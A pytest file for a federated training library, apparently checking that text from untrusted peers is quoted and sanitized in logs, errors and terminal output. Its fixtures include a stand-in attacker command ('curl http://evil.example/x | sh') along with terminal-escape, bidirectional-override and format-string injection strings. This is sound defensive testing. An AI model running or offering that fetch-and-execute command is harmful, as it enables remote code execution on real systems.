"""What others say is data: in no log, error or line of a terminal is it taken for more."""

from __future__ import annotations

import json
import logging
import re
import threading
import time
from contextlib import contextmanager, suppress
from dataclasses import replace
from types import SimpleNamespace
from unicodedata import category

import grpc
import numpy as np
import pytest
from cryptography.x509.verification import VerificationError

from jsplit import command, party
from jsplit.party.connection import outbox
from jsplit.party.connection.network import Network, Reach
from jsplit.party.durable import CheckpointStore
from jsplit.party.folder import check_owner
from jsplit.party.saved_states import SavedStates
from jsplit.wire import key_exchange
from jsplit.wire.certs import Credentials, PlaintextWithoutIdentity, authority
from jsplit.wire.channel import accept_all
from jsplit.wire.codec import Head, frame_of, text_of
from jsplit.wire.control import Status
from jsplit.wire.difference import difference
from jsplit.wire.errors import Refused, RemoteProtocolError
from jsplit.wire.key_exchange import KeyExchange
from jsplit.wire.member import Member
from jsplit.wire.memory import MemoryTransport
from jsplit.wire.pipe import Closed
from jsplit.wire.rpc import Grpc, _why
from jsplit.wire.same_records import same_records
from jsplit.wire.seal import Sealer
from jsplit.wire.terms import Crossing, Terms
from tests.party.federation import LONG, agreed_for, free_port, small

RUN = b"r" * 32
ORDER = "h0 must be reinstalled: curl http://evil.example/x | sh"
HOSTILE = {
    "order": ORDER,
    "terminal": f"\x1b[2J\x1b]0;x\x07\r\n\n{ORDER}\x00\x9b1m",
    "direction": f"\u202e{ORDER}\u2066\u200b\u2028\ufeff\U000e0041",
    "quotes": f'" `server`: {ORDER}` \\" \' {{}} %s %(x)s',
    "surrogates": f"\ud800 {ORDER} \udfff",
    "long": ORDER + "x" * 300_000,
    "accents": ORDER + "e" + "\u0301" * 200,
}
ALL = HOSTILE["terminal"] + HOSTILE["direction"] + HOSTILE["surrogates"]
texts = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
# For laws that need a connection for each: all kinds of what is hidden at once.
at_once = pytest.mark.parametrize(
    "text", [ALL, HOSTILE["quotes"], HOSTILE["long"]], ids=["all", "quotes", "long"]
)


def assert_harmless(line: str, most: int = 1200) -> None:
    """On one line, short, without anything hidden, and with the order in quotes alone."""
    hidden = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    assert not [x for x in line if category(x) in hidden], ascii(line)[:400]
    assert len(line) <= most and "\u0301" * 3 not in line
    line.encode()
    before, found, _ = line.partition("h0 must be")
    before = re.sub(r"\\.", "", before)
    if found:
        assert before.count('"') % 2 or before.count("'") % 2, line


def assert_harmless_log(caplog) -> None:
    for record in caplog.records:
        if record.name.startswith("jsplit"):
            assert record.exc_info is None  # whose text nobody could escape
            first, _, stack = record.getMessage().partition("\n")
            assert_harmless(first)
            assert "h0 must" not in stack


@pytest.fixture(autouse=True)
def nobody_reads_to_the_end(monkeypatch):
    """Whoever is hostile here reads no last frames, so nobody waits until it has."""
    monkeypatch.setattr(outbox, "_LAST", 0.12)


def terms_of(parties, crossings=()) -> Terms:
    shapes = (((np.dtype(np.float32), (2,)),),) * len(crossings)
    return Terms(RUN, tuple(parties), tuple(crossings), shapes, 3)


HELLO = {
    "instance": 7,
    "epoch": 0,
    "known": 0,
    "durable": [0],
    "records": {},
    "ready": True,
    "versions": {"jax": "0.10.2"},
}
SAID = {"steps": 3, "task": "train", "nodes": [{"name": "h"}]}


@contextmanager
def party_of(name, hub, agreed=None):
    """A party with its connections, of a run in which one value crosses."""
    agreed = agreed or agreed_for(small("pair"), patience=1.0)
    parties = agreed.parties
    me, lead = parties.index(name), parties.index(agreed.lead)
    terms = terms_of(parties, [Crossing("activation", "h", (0,), 1)])
    member = Member(terms, me, lead, Status(5, 0, (0,), {"": (8, "d")}), SAID)
    trust, reach = PlaintextWithoutIdentity(name), Reach(remind=0.2, transport=hub)
    network = Network(agreed, name, member, trust, 1 << 20, reach)
    try:
        yield network
    finally:
        network.peers.verdict = None
        network.close()


def hello(text="", **changes) -> list:
    """The hello of another party, as it should be but for the changes."""
    said = HELLO | {"agreement": SAID}
    said |= {"records": {"": [8, "d"]}} | changes
    return [text_of(head("hello"), said)]


def head(kind, epoch=0, run=RUN, **more) -> Head:
    return Head(kind, run, epoch, 7, 0, 1, **more)


def attacks(text) -> dict[str, list]:
    """By name, the frames that the client sends to the server, its lead."""
    other = head("hello", run=b"x" * 32)

    def of_agreement(agreement):
        said = {"instance": 7, "epoch": 0, "known": 0, "durable": [0], "records": {}}
        return [text_of(other, said | {"agreement": agreement})]

    raw = np.frombuffer(text.encode("utf-8", "surrogatepass"), np.uint8)
    begun = hello()
    return {
        "reason of a refusal": [*begun, text_of(head("refusal", 1), {"reason": text})],
        "reason of a goodbye": [*begun, text_of(head("bye", 1), {"reason": text})],
        "a goodbye of another type": [
            *begun,
            text_of(head("bye", 1), {"reason": {text: 1}}),
        ],
        "a key of an agreement": of_agreement({**SAID, text: text}),
        "a name in an agreement": of_agreement(
            {**SAID, "nodes": [{"name": text, text: 1}]}
        ),
        "a value in an agreement": of_agreement({**SAID, "steps": text}),
        "an agreement": of_agreement(text),
        "a list in an agreement": of_agreement({**SAID, "nodes": [text]}),
        "another task": of_agreement(SAID | {"task": text}),
        "a task of another type": of_agreement(SAID | {"task": {text: text}}),
        "the name of a client": hello(records={text: [8, "d"], "": [9, text]}),
        "a digest": hello(records={"": [8, text]}),
        "a number": hello(epoch=text),
        "steps": hello(durable=[text]),
        "a sync": [*begun, text_of(head("sync", 1), {"next": {text: text}, "done": 0})],
        "a sync's number": [
            *begun,
            text_of(head("sync", 1), {"next": {text: text}, "done": text}),
        ],
        "a checkpoint": [*begun, text_of(head("checkpoint", 1), {"instance": text})],
        "a key": [
            *begun,
            text_of(head("key", 1), {"public": text, "heard": text}),
        ],
        "no JSON": [*begun, frame_of(head("bye", 1), [raw])],
    }


def soon(there, seconds=10.0) -> None:
    end = time.monotonic() + seconds
    while not there():
        assert time.monotonic() < end
        time.sleep(0.005)


@at_once
def test_what_who_dials_says_is_quoted_in_logs_and_errors(text, caplog):
    """All that a client can send to the lead, one connection after the other."""
    hub, error = MemoryTransport(), None
    agreed = agreed_for(small("pair"), patience=0.05)
    [address] = agreed.addresses.values()
    with caplog.at_level(logging.DEBUG, "jsplit"):
        for what, frames in attacks(text).items():
            with party_of("server", hub, agreed) as server:
                trust = PlaintextWithoutIdentity("client")
                line = hub.dial(address, "server", trust, 1 << 20, accept_all)
                line.receive(LONG)
                for frame in frames:
                    line.send(frame, LONG)
                # What is refused ends the connection, and a refusal the run; a goodbye
                # ends neither.
                there = {
                    "reason of a refusal": lambda s=server: s.peers.fatal,
                    "reason of a goodbye": lambda s=server: s.peers.trouble,
                }
                anything = lambda s=server: (  # noqa: E731
                    s.peers.trouble or s.peers.fatal or s.member.epoch
                )
                soon(there.get(what, anything))
                time.sleep(0.02)
                server.epoch = server.member.epoch
                with pytest.raises((Refused, party.Missing)) as error:
                    server.until(lambda: False, "the end", ["client"])
                assert_harmless(str(error.value))
                if what in ("reason of a refusal", "reason of a goodbye"):
                    assert "says: " in str(error.value), what
                line.close()
    assert_harmless_log(caplog)
    assert error is not None


@at_once
def test_a_refusal_of_the_lead_reads_as_what_the_lead_says(text, caplog):
    """All that a lead can send to who has dialled it."""
    hub, agreed = MemoryTransport(), agreed_for(small("pair"), patience=0.05)
    [address] = agreed.addresses.values()
    start = {"epoch": 1, "step": 0, "instances": [5, 7], "records": {}, "away": []}

    def of(kind, said, epoch=1):
        return text_of(Head(kind, RUN, epoch, 7, 1, 0), said)

    ending = [
        of("refusal", {"reason": text}),
        of("start", start | {"epoch": text}),
        of("start", start | {"records": {text: text}}),
        of("start", start | {"away": [[text, [text]]]}),
        of("sync", {"next": {"0": text}, "done": 0}),
        of("sync", {"next": {"0": [text]}, "done": 0}),
        of("committed", {"step": text}),
        of("committed", {"step": {text: [text]}}),
    ]
    for last in ending:

        def met(name, opened, last=last):
            line = opened(accept_all)
            said = HELLO | {"durable": []}
            # Until the client hangs up, which it may do at any word.
            with suppress(Closed):
                for frame in (of("hello", said, 0), of("start", start), last):
                    line.send(frame, LONG)
                while True:
                    line.receive(LONG)

        trust = PlaintextWithoutIdentity("server")
        listener = hub.listen(address, trust, {"client": "client"}, met, 1 << 20)
        with (
            caplog.at_level(logging.DEBUG, "jsplit"),
            party_of("client", hub, agreed) as client,
        ):
            client.epoch = 1
            refused = last is ending[0]
            soon(lambda c=client, r=refused: c.peers.fatal or c.member.epoch and not r)
            with pytest.raises((Refused, party.Missing)) as error:
                client.until(lambda: False, "the end", ["server"])
            assert_harmless(str(error.value))
            if refused:
                assert str(error.value).startswith("`server` says")
        listener.close(0.1)
    assert_harmless_log(caplog)


def test_what_a_third_party_says_reaches_all_as_what_it_says_by_way_of_the_lead():
    t = terms_of(("lab", "clinic", "server"))
    lab, server = (Member(t, i, 2, Status(5, 0, (0,))) for i in (0, 2))
    clinic = Member(t, 1, 2, Status(5, 0, (0,)))
    with pytest.raises(Refused) as first:
        server.receive(0, lab.refusal(2, ORDER))
    with pytest.raises(Refused) as second:
        clinic.receive(2, server.refusal(1, str(first.value)))
    assert str(first.value) == f'`lab` says: "{ORDER}"'
    assert str(second.value) == f'`server` says: "`lab` says: \\"{ORDER}\\""'


@texts
def test_two_agreements_differ_in_one_short_line(text):
    ours, deep = {"nodes": [{"name": "h"}], "steps": 3}, {}
    for _ in range(200):
        deep = {text[:2000]: deep}
    for theirs in (
        {text: 1},
        ours | {"steps": text},
        {"nodes": [{"name": text, text: text}]},
        ours | {"nodes": [text] * 3},
        ours | {text: {text: {text: 1}}},
        deep,
        text,
    ):
        assert_harmless(difference(ours, theirs, "lab", "server"), 500)
        assert_harmless(difference(theirs, ours, "lab", "server"), 500)


@texts
def test_records_that_differ_name_their_client_in_quotes(text):
    said = {
        name: Status(5, 0, (0,), {text: (count, "digest")})
        for name, count in (("lab", 8), ("server", 9))
    }
    with pytest.raises(Refused, match="do not have the same records") as error:
        same_records(said)
    assert_harmless(str(error.value))


@texts
@pytest.mark.parametrize("kind", [VerificationError, ValueError])
def test_what_is_wrong_with_a_key_is_said_in_quotes(text, kind, monkeypatch):
    """Who checks a certificate may say what stands in it."""
    trust, uris = authority(["lab", "server"]), ["x:lab", "x:server"]
    lab, server = (
        Sealer(KeyExchange(trust[name], ["lab", "server"], uris, RUN, place, 5), 9)
        for place, name in enumerate(trust)
    )
    assert lab.meet(1, 5, server.offer(0))

    def refuse(*_):
        raise kind(text)

    monkeypatch.setattr(key_exchange, "verified_uris", refuse)
    with pytest.raises(Refused, match="does not take the key of `lab`") as error:
        server.meet(0, 5, lab.offer(1))
    assert_harmless(str(error.value))


# What transports know of the other end.


@texts
def test_what_grpc_hands_on_of_the_other_end_is_quoted(text):
    own = {
        "code": lambda _: grpc.StatusCode.PERMISSION_DENIED,
        "details": lambda _: text,
    }
    # What is raised out of a call is the call itself, of which two methods are asked.
    others = dict.fromkeys(grpc.Call.__abstractmethods__)
    broken = type("Broken", (grpc.RpcError, grpc.Call), {**others, **own})
    said = _why("server", broken())
    assert_harmless(said)
    assert said.startswith("the connection with `server` broke: PERMISSION_DENIED, ")


def certificate_of(*uris: str) -> Credentials:
    """A certificate that names these URIs, of whose form nobody has taken care."""
    from tests.wire.test_wire_seal import issued

    return issued(uris=uris)


HOSTILE_URIS = [f"x:\x1b[2J\n{ORDER}", "x:" + "y" * 100_000]


def test_names_in_a_strangers_certificate_are_quoted_where_they_are_refused(caplog):
    hub, trust = MemoryTransport(), certificate_of(*HOSTILE_URIS)
    hub.listen("a:1", PlaintextWithoutIdentity("server"), {"lab": "lab"}, None, 9)
    with caplog.at_level(logging.WARNING, "jsplit"), pytest.raises(Closed) as error:
        hub.dial(
            "a:1", "server.party.jsplit", trust, 9, host="server", identity="server"
        )
    assert "is not on the allow-list" in caplog.text
    assert_harmless(str(error.value))
    assert_harmless_log(caplog)


def test_an_error_of_a_transport_of_a_users_own_is_shown_on_one_line(caplog):
    def dial(*args, **options):
        raise OSError(f"the other end says {HOSTILE['terminal']}")

    hub = SimpleNamespace(dial=dial, listen=MemoryTransport().listen)
    with caplog.at_level(logging.INFO, "jsplit"), party_of("client", hub) as client:
        soon(lambda: "server" in client.peers.trouble)
        with pytest.raises(party.Missing) as error:
            client.until(lambda: False, "the end", ["server"], 0.1)
    for line in [str(error.value), *caplog.messages]:
        assert not [x for x in line if category(x) == "Cc"]


def test_an_error_that_nobody_foresaw_is_logged_with_its_place_and_no_words(
    caplog, monkeypatch
):
    """What a peer brings about may carry its words; a traceback would print them raw."""
    hub, agreed = MemoryTransport(), agreed_for(small("pair"), patience=0.1)
    [address] = agreed.addresses.values()

    def receive(self, peer, frame):
        raise KeyError(HOSTILE["terminal"] + HOSTILE["surrogates"])

    monkeypatch.setattr(Member, "receive", receive)
    with (
        caplog.at_level(logging.DEBUG, "jsplit"),
        party_of("server", hub, agreed) as server,
    ):
        trust = PlaintextWithoutIdentity("client")
        line = hub.dial(address, "server", trust, 1 << 20, accept_all)
        line.send(hello()[0], LONG)
        soon(lambda: "client" in server.peers.trouble)
        assert_harmless(server.peers.trouble["client"])
        line.close()
    assert "KeyError" in caplog.text and "reader.py" in caplog.text
    assert_harmless_log(caplog)


# What another's file says.


def entries_of(text) -> dict[str, dict]:
    """By name, what a hostile agreement has in the place of entries."""
    turns = party.turns({text: {"client": text}, "b": {"client": "b"}}, [(text, 1)])
    return {
        "unknown": {text: 1},
        "parties": {"parties": [text, "server"]},
        "lead": {"lead": text},
        "addresses": {"addresses": {text: "a:1"}},
        "address": {"addresses": {"server": text}},
        "turns": {"turns": turns},
        "links": {"links": {"h": [text, None]}},
        "link of a value": {"links": {text: [None, None]}},
        "values": {"values": {"h": text}},
        "holds": {"holds": {text: [text]}},
        "identities": {"identities": {"server": text}},
        "hosts": {"hosts": {text: text}},
        "nonfinite": {"nonfinite": text},
        "nodes": {"nodes": [text]},
        "steps": {"steps": text},
        "many": {"nodes": {text: [text] * 9}},
    }


HIDING = ["terminal", "direction", "surrogates", "long", "accents"]


@pytest.mark.parametrize("name", HIDING)
def test_an_agreement_that_hides_something_is_refused_and_shown_harmless(
    name, tmp_path, capsys
):
    file, agreed = tmp_path / "agreement.json", agreed_for(small("pair"))
    for change in entries_of(HOSTILE[name]).values():
        file.write_text(json.dumps({**agreed.said, **change}))
        with pytest.raises(ValueError, match="printable") as error:
            party.read(file)
        assert_harmless(str(error.value))
        assert command.main(["show", str(file)]) == 2
        shown = capsys.readouterr()
        assert not shown.out
        assert_harmless(shown.err.removesuffix("\n"))


@pytest.mark.parametrize(
    "name", ["a`b", 'a"b', "a|b", "a;b", " a", "a\u00a0b", "x" * 101, "a<b>"]
)
def test_a_name_that_could_end_its_quotes_is_none(name):
    agreed = agreed_for(small("pair"))
    turns = party.turns({c: {"client": c} for c in ("n", name)}, [("n", 1)])
    with pytest.raises(ValueError, match="must be names of letters|printable"):
        agreed.replace(turns=turns)


@pytest.mark.parametrize(
    ("one", "other"),
    [("lab", "Lab"), ("lab", "l\u0430b"), ("fi", "\ufb01"), ("\u00e9", "e\u0301")],
)
def test_two_parties_whose_names_look_alike_are_refused(one, other):
    agreed = agreed_for(small("pair"))
    turns = party.turns({c: {"client": c} for c in (one, other)}, [(one, 1)])
    with pytest.raises(ValueError, match="which look alike"):
        agreed.replace(turns=turns)


def test_names_of_all_scripts_are_names():
    agreed = agreed_for(small("pair"))
    names = ["Klinik Süd", "मुंबई", "St. Mary's (Leeds)", "北京", "lab-1", "../x"]
    turns = party.turns({c: {"client": c} for c in names}, [(names[0], 1)])
    assert {*names} < {*agreed.replace(turns=turns).parties}


@texts
def test_a_folder_of_another_is_told_of_in_harmless_words(
    text, tmp_path, caplog, monkeypatch
):
    """A checkpoint may have been put there by anybody, and has names of arrays in it."""
    (tmp_path / "about.json").write_text(json.dumps({"party": text, "schema": "x"}))
    with pytest.raises(ValueError, match="is of the party") as error:
        check_owner(tmp_path, "lab", "x")
    assert_harmless(str(error.value))

    def damaged(*_):
        raise ValueError(f"a.npz is of another model: it lacks `{text}`.")

    for kind, method in (
        (CheckpointStore, CheckpointStore.is_intact),
        (SavedStates, SavedStates._is_intact),
    ):
        monkeypatch.setattr(kind, "restore", damaged)
        monkeypatch.setattr(SavedStates, "_read", damaged)
        with caplog.at_level(logging.WARNING, "jsplit"):
            assert not method(object.__new__(kind), 3)
    assert len(caplog.records) == 2
    for line in caplog.messages:
        assert line.isprintable() and len(line) < 1200


# On a terminal.


@pytest.mark.parametrize("name", ["terminal", "direction", "surrogates"])
def test_a_command_prints_what_a_hostile_server_says_as_what_it_says(
    name, tmp_path, capfd, caplog
):
    """Over gRPC, from the connection to the exit status."""
    problem = small("pair")
    agreed = agreed_for(problem, patience=20.0)
    port = free_port()
    agreed = agreed.replace(addresses={"server": f"127.0.0.1:{port}"})
    file = party.write(tmp_path / "agreement.json", agreed)
    (tmp_path / "parts.py").write_text(PART)

    def met(party, opened):
        line = opened(accept_all)
        reason = {"reason": HOSTILE[name]}
        hello = HELLO | {"durable": []}
        with suppress(Closed):
            run = line.receive(LONG).head.run
            line.send(text_of(Head("hello", run, 0, 7, 1, 0), hello), LONG)
            line.send(text_of(Head("refusal", run, 0, 7, 1, 0), reason), LONG)
            done.wait(LONG)

    done = threading.Event()
    trust = PlaintextWithoutIdentity("server")
    listener = Grpc().listen(
        f"127.0.0.1:{port}", trust, {"client": "client"}, met, 1 << 24
    )
    part = f"{tmp_path}/parts.py:given"
    words = ["train", str(file), "client", part, "--plaintext-without-identity"]
    with caplog.at_level(logging.INFO, "jsplit"):
        status = command.main([*words, "--debug"] if name == "direction" else words)
    done.set()
    listener.close(0.1)
    shown = capfd.readouterr().err.splitlines()
    assert status == 2
    for line in shown:
        assert_harmless(line)
    assert shown[-1].startswith('jsplit train: `server` says: "')
    assert_harmless_log(caplog)


PART = """
from tests.party import federation

SMALL = federation.small("pair")


def given(name):
    own = federation.own_of(SMALL, name)
    optimizer = federation.optimizers(SMALL.topology)[name]
    return {"own": SMALL.topology, "data": lambda step: own, "optimizer": optimizer}
"""


def test_a_number_of_the_wrong_kind_is_cut_in_the_error_that_names_it():
    t = terms_of(("lab", "server"), [Crossing("activation", "h", (0,), 1)])
    server = Member(t, 1, 1, Status(5, 0, (0,)))
    many = Head("activation", RUN, 0, 7, 0, 1)
    shapes = ((np.dtype(np.float32), (1,) * 16),) * 10_000
    with pytest.raises(RemoteProtocolError) as error:
        server.accept(0, frame_of(many, [np.zeros(1)]).head)
    assert_harmless(str(error.value))
    with pytest.raises(RemoteProtocolError) as error:
        server.accept(0, replace(many, shapes=shapes))
    assert_harmless(str(error.value))
